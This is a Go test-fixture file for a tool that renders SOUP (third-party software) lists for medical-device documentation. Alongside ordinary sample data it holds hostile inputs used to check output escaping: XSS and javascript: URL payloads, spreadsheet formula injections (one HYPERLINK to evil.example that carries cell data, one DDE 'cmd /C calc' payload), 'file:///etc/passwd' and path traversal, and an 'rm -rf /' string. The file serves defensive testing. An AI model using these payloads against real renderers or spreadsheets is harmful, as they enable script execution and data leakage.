package rendertest

import (
	"fmt"
	"strings"
	"time"

	"github.com/soupkit/soupkit/soup"
)

// FullList returns a new copy of a small list in which every field of the
// model is set somewhere: a documented direct item, a transitive one, an
// item of each risk level and one with none, an item without an ID, and a
// removed item. It is the bundled example of the package's golden files.
func FullList() *soup.List {
	d := soup.NewDate
	return &soup.List{
		System: soup.System{Name: "Infusion pump backend", Version: "2.4.0", Manufacturer: "Example Medical GmbH", SafetyClass: soup.ClassB},
		Document: soup.Document{
			ID: "SOUP-LIST-001", Revision: "7", Date: d(2026, time.November, 24), Author: "Jane Doe",
			Approvers: []soup.Approver{
				{Name: "John Roe", Role: "Head of QA"},
				{Name: "Erika Mustermann", Role: "Software Architect", Date: d(2026, time.November, 25)},
			},
		},
		RiskLevels: soup.RiskLevels{
			Low:    "Malfunction cannot lead to patient harm.",
			Medium: "Malfunction can lead to reversible harm.",
			High:   "Malfunction can lead to irreversible harm.",
		},
		Sources: []soup.Source{{
			Name: "backend.cdx.json", Format: "cyclonedx-json@1.6",
			Serial: "urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79", Timestamp: "2026-11-20T09:30:00Z",
			Tools: []string{"syft 1.57.0", "cyclonedx-gomod 1.10.0"},
		}},
		Items: []soup.Item{
			{
				ID: "SOUP-0001", Name: "flask", Version: "1.1.2", Manufacturer: "Pallets",
				PURL: "pkg:pypi/flask@1.1.2", License: "BSD-3-Clause",
				Website: "https://palletsprojects.com/p/flask/", IssueTracker: "https://github.com/pallets/flask/issues",
				VCS: "https://github.com/pallets/flask", Description: "A micro web framework.",
				Hashes:     []soup.Hash{{Algorithm: "SHA-256", Value: "6c2c2e5bd7a0a7cb2d46e5a3bb1a6fa5bc0ed8cd04e5de8a2d5f42c2b8fbe9b5"}},
				Dependency: soup.Direct, Systems: []string{"api-server"},
				Requirements: soup.Requirements{
					Functional:  []string{"Route HTTP requests of the device API to handlers"},
					Performance: []string{"Answer 50 requests per second on the target server"},
					Hardware:    []string{"x86-64 server", "512 MiB RAM"},
					Software:    []string{"CPython 3.8", "Werkzeug 1.0"},
				},
				RiskLevel: soup.RiskMedium, FailureModes: []string{"Request routed to the wrong handler"}, RiskRefs: []string{"RISK-012"},
				Verification: soup.Verification{
					Architecture: "Runs behind gunicorn; only documented public API used.",
					By:           "Jane Doe", Date: d(2026, time.October, 2), Version: "1.1.2",
				},
				AnomalyReview: soup.AnomalyReview{
					Date: d(2026, time.October, 2), By: "Jane Doe",
					Sources:    []string{"https://github.com/pallets/flask/issues", "OSV"},
					Conclusion: "No open anomaly affects the features we use.",
				},
				Anomalies: []soup.Anomaly{{
					ID: "GHSA-m2qf-hxjv-5gpq", Source: "GitHub", Summary: "Session cookie disclosure",
					Severity: "high", Status: soup.StatusNotAffected, Justification: "Session cookies are not used.",
				}},
				Support: soup.Support{Level: soup.SupportActive, EndOfSupport: d(2027, time.December, 31)},
				Notes:   "Pinned in requirements.txt.",
			},
			{
				ID: "SOUP-0002", Name: "werkzeug", Version: "1.0.1", Manufacturer: "Pallets",
				PURL: "pkg:pypi/werkzeug@1.0.1", License: "BSD-3-Clause",
				Website: "https://palletsprojects.com/p/werkzeug/", IssueTracker: "https://github.com/pallets/werkzeug/issues",
				Dependency: soup.Transitive, RequiredBy: []string{"SOUP-0001"},
				Requirements: soup.Requirements{
					Functional:  []string{"Parse HTTP requests for flask"},
					Performance: []string{"None beyond flask's"},
					Hardware:    []string{"None"},
					Software:    []string{"CPython 3.8"},
				},
				RiskLevel: soup.RiskLow,
				Verification: soup.Verification{
					Architecture: "Used only through flask.", By: "Jane Doe", Date: d(2026, time.October, 2), Version: "1.0.0",
				},
				Anomalies: []soup.Anomaly{{ID: "CVE-2023-25577", Status: soup.StatusUnderInvestigation, Summary: "High resource usage parsing multipart data"}},
				Support:   soup.Support{Level: soup.SupportNoAssertion, Justification: "Community project without a support commitment."},
			},
			{
				ID: "SOUP-0003", Name: "github.com/google/uuid", Version: "v1.6.0", Manufacturer: "Google",
				PURL: "pkg:golang/github.com/google/uuid@v1.6.0", CPE: "cpe:2.3:a:google:uuid:1.6.0:*:*:*:*:*:*:*",
				License: "BSD-3-Clause", Website: "https://github.com/google/uuid",
				Dependency: soup.Direct, Systems: []string{"device-gateway", "api-server"},
				Requirements: soup.Requirements{
					Functional: []string{"Generate RFC 4122 UUIDs for infusion records"},
					Software:   []string{"Go 1.22 or later"},
				},
				RiskLevel: soup.RiskHigh, FailureModes: []string{"Duplicate record identifiers", "Predictable identifiers"},
				RiskRefs: []string{"RISK-031", "RISK-032"},
			},
			{
				Name: "left-pad", Version: "1.3.0", PURL: "pkg:npm/left-pad@1.3.0", License: "WTFPL",
				Dependency: soup.Transitive, Description: "String padding; found by the scan, not yet documented.",
			},
			{
				ID: "SOUP-0004", Name: "openssl", Version: "3.0.13", Manufacturer: "OpenSSL Software Foundation",
				PURL: "pkg:deb/debian/openssl@3.0.13", License: "Apache-2.0", Website: "https://www.openssl.org/",
				Dependency: soup.Direct, RiskLevel: soup.RiskHigh,
				Support: soup.Support{Level: soup.SupportEnded, EndOfSupport: d(2026, time.September, 7)},
			},
			{
				ID: "SOUP-0005", Name: "requests", Version: "2.25.0", Manufacturer: "Python Software Foundation",
				PURL: "pkg:pypi/requests@2.25.0", License: "Apache-2.0", Dependency: soup.Direct,
				RiskLevel: soup.RiskLow, Removed: true,
				Notes: "Replaced by httpx in 2.4.0.",
			},
		},
	}
}

// FullFindings returns findings about [FullList] as validation reports
// them: open and suppressed, errors and warnings, about items and about the
// list. Each message holds a marker FINDINGnn, so a test can find it in
// any rendering.
func FullFindings() soup.Findings {
	return soup.Findings{
		{Rule: "approver-date-missing", Severity: soup.SeverityWarning, Field: "document.approvers", Source: soup.TeamPolicy,
			Message: "FINDING01 approver John Roe has not dated the approval"},
		{Rule: "requirements-missing", Severity: soup.SeverityError, Item: "SOUP-0003", Field: "requirements.performance", Source: soup.IEC62304, Clause: "5.3.3",
			Message: "FINDING02 performance requirements are missing"},
		{Rule: "verification-missing", Severity: soup.SeverityError, Item: "SOUP-0003", Field: "verification", Source: soup.IEC62304, Clause: "5.3.6c",
			Message: "FINDING03 architecture verification is not recorded"},
		{Rule: "verification-outdated", Severity: soup.SeverityError, Item: "SOUP-0002", Field: "verification.version", Source: soup.IEC62304, Clause: "5.3.6c",
			Message: "FINDING04 verified version 1.0.0 is not the item's version 1.0.1"},
		{Rule: "anomaly-unjustified", Severity: soup.SeverityError, Item: "SOUP-0002", Field: "anomalies", Source: soup.IEC62304, Clause: "7.1.3",
			Message:    "FINDING05 anomaly CVE-2023-25577 is under investigation without justification",
			Suppressed: true, Justification: "Multipart parsing is disabled in the device API (see ARCH-7)."},
		{Rule: "risk-level-missing", Severity: soup.SeverityError, Item: "left-pad", Field: "riskLevel", Source: soup.IEC62304, Clause: "7.1.2c",
			Message: "FINDING06 no risk level is assigned"},
	}
}

// HostileNames returns the hostile item names of [HostileList], in order.
// Each holds a marker, HOSTILEnn, of letters and digits only, that any
// faithful rendering keeps recognisable.
func HostileNames() []string {
	return []string{
		"HOSTILE01 | pipe || table |",
		"HOSTILE02\nnewline\r\ncrlf\rcr\u2028line separator",
		"HOSTILE03 `code` ``` fence",
		"<script>alert('HOSTILE04')</script>",
		"[HOSTILE05](javascript:alert(1))",
		`=HYPERLINK("http://evil.example/?x="&A1,"HOSTILE06")`,
		"+HOSTILE07+1",
		"-HOSTILE08-1",
		"@HOSTILE09",
		"\tHOSTILE10 leading tab",
		"\rHOSTILE11 leading carriage return",
		"# HOSTILE12 heading",
		"> HOSTILE13 quote",
		"- HOSTILE14 list item",
		"1. HOSTILE15 ordered list item",
		"HOSTILE16 \x00 nul \x1b[31m ansi \x7f del \u0085 nel",
		"HOSTILE17 \u202egnp.exe bidi override \u2066isolate\u2069",
		"HOSTILE18 \xff\xfe invalid UTF-8 \xc3",
		"HOSTILE19 </td></tr></table><img src=x onerror=alert(1)>",
		`HOSTILE20 "quoted, with comma" and 'single'`,
		"{{.Title}} HOSTILE21 {{template \"x\"}} {{- /* */}}",
		"HOSTILE22 &amp; &lt;b&gt; &#x3C;script&#x3E; entities",
		"HOSTILE23 ünïcödé ß 中文 😀 ﬁ",
		"HOSTILE24 " + strings.Repeat("long ", 2000),
		"HOSTILE25 *emph* _under_ ~~strike~~ $x^2$ ![img](http://evil.example/x.png)",
		"HOSTILE26 <!-- unclosed comment",
		"=cmd|' /C calc'!A0 HOSTILE27",
		"\uff1dHOSTILE28 full-width equals",
		`HOSTILE29 trailing backslash \`,
		"--- | --- HOSTILE30",
		"HOSTILE31 <a href=\"javascript:alert(1)\">click</a>",
		"HOSTILE32 javascript:alert(document.cookie)",
	}
}

// HostileURLs returns the hostile URLs used as websites, issue trackers
// and repositories in [HostileList]: none may become a link.
func HostileURLs() []string {
	return []string{
		"javascript:alert('HOSTILE')",
		"JaVaScRiPt:alert(1)",
		" javascript:alert(1)",
		"java\tscript:alert(1)",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"vbscript:msgbox(1)",
		`https://example.com/"onmouseover="alert(1)`,
		"http://example.com/<script>alert(1)</script>",
		"file:///etc/passwd",
		"//evil.example/protocol-relative",
	}
}

// HostileList returns a list whose item names are [HostileNames], with
// hostile text in every other field too: IDs, versions, requirements,
// URLs ([HostileURLs]), document control, sources, risk-level definitions.
func HostileList() *soup.List {
	names := HostileNames()
	urls := HostileURLs()
	l := &soup.List{
		System: soup.System{Name: "<b>System</b> | =1+1", Version: "2.0\n# injected", Manufacturer: "@evil"},
		Document: soup.Document{
			Title: "# Title <script>alert(1)</script> | =SUM(A1)", ID: "=DOC-1", Revision: "-1",
			Date: soup.NewDate(2026, time.November, 24), Author: "<img src=x onerror=alert(1)>",
			Approvers: []soup.Approver{{Name: "| pipe", Role: "\nrole"}},
		},
		RiskLevels: soup.RiskLevels{Low: "`low` | <i>x</i>", Medium: "=2*3", High: "[high](javascript:alert(1))"},
		Sources: []soup.Source{{
			Name: "../../etc/passwd", Format: "<script>", Serial: "urn:uuid:|pipe|",
			Timestamp: "=NOW()", Tools: []string{"+tool", "-tool", "@tool"},
		}},
	}
	for i, name := range names {
		u := urls[i%len(urls)]
		l.Items = append(l.Items, soup.Item{
			ID:           fmt.Sprintf("SOUP-%04d", i+1),
			Name:         name,
			Version:      []string{"=1.0", "-2", "+3", "@4", "1.0 | 2.0", "<b>5</b>"}[i%6],
			Manufacturer: names[(i+1)%len(names)][:min(40, len(names[(i+1)%len(names)]))],
			PURL:         "pkg:npm/hostile@1.0.0",
			License:      "MIT OR <script>",
			Website:      u,
			IssueTracker: urls[(i+3)%len(urls)],
			VCS:          urls[(i+5)%len(urls)],
			Description:  "line one\nline two | <script>alert(1)</script>",
			Hashes:       []soup.Hash{{Algorithm: "=SHA-256", Value: "|abc|"}},
			Dependency:   soup.Dependency(i%2 + 1),
			RequiredBy:   []string{"=SOUP-0001"},
			Requirements: soup.Requirements{
				Functional:  []string{"=1+2", "multi\nline", "| pipe"},
				Performance: []string{"<script>alert(1)</script>"},
				Hardware:    []string{"@hardware"},
				Software:    []string{"-software"},
			},
			RiskLevel:    soup.RiskLevel(i % 4),
			FailureModes: []string{"[x](javascript:alert(1))"},
			RiskRefs:     []string{"+RISK"},
			Verification: soup.Verification{Architecture: "`rm -rf /`", By: "=by", Version: "<v>"},
			AnomalyReview: soup.AnomalyReview{
				By: "@review", Sources: []string{u}, Conclusion: "<b>ok</b>",
			},
			Anomalies: []soup.Anomaly{{ID: "=CVE", Status: soup.StatusAffected, Justification: "| <script>"}},
			Support:   soup.Support{Level: soup.SupportLimited, Justification: "=why"},
			Notes:     "HOSTILE notes\r\n<script>alert(1)</script>",
		})
	}
	return l
}

// HostileFindings returns findings with hostile text about [HostileList].
func HostileFindings() soup.Findings {
	return soup.Findings{
		{Rule: "=rule", Severity: soup.SeverityError, Item: "SOUP-0001", Field: "| field", Source: "=IEC | 62304\n<b>", Clause: "<5.3.3>",
			Message: "FINDING01 <script>alert(1)</script> | =1+1"},
		{Rule: "rule", Severity: soup.SeverityWarning, Item: "<no such item>", Field: "name", Clause: "8.1.2",
			Message: "FINDING02 \nnewline", Suppressed: true, Justification: "@justified [x](javascript:alert(1))"},
	}
}

// LargeList returns a list of n generated items, each documented, with
// names item-00001, item-00002, and so on.
func LargeList(n int) *soup.List {
	l := FullList()
	l.Items = make([]soup.Item, n)
	for i := range l.Items {
		l.Items[i] = soup.Item{
			ID:           soup.FormatID(i + 1),
			Name:         fmt.Sprintf("item-%05d", i+1),
			Version:      fmt.Sprintf("1.%d.%d", i%7, i%13),
			Manufacturer: fmt.Sprintf("Vendor %d", i%17),
			PURL:         fmt.Sprintf("pkg:npm/item-%05d@1.%d.%d", i+1, i%7, i%13),
			License:      "MIT",
			Website:      fmt.Sprintf("https://example.com/item-%05d", i+1),
			IssueTracker: fmt.Sprintf("https://example.com/item-%05d/issues", i+1),
			Dependency:   soup.Dependency(i%2 + 1),
			Requirements: soup.Requirements{
				Functional:  []string{"Do the thing the system needs", "Do it | reliably"},
				Performance: []string{"Within 10 ms"},
				Hardware:    []string{"None"},
				Software:    []string{"Node.js 20"},
			},
			RiskLevel:    soup.RiskLevel(i%3 + 1),
			FailureModes: []string{"Wrong result"},
			RiskRefs:     []string{fmt.Sprintf("RISK-%03d", i%100)},
			Verification: soup.Verification{Architecture: "Wrapped by an adapter with input checks.", By: "Jane Doe", Date: soup.NewDate(2026, time.October, 1)},
		}
	}
	return l
}
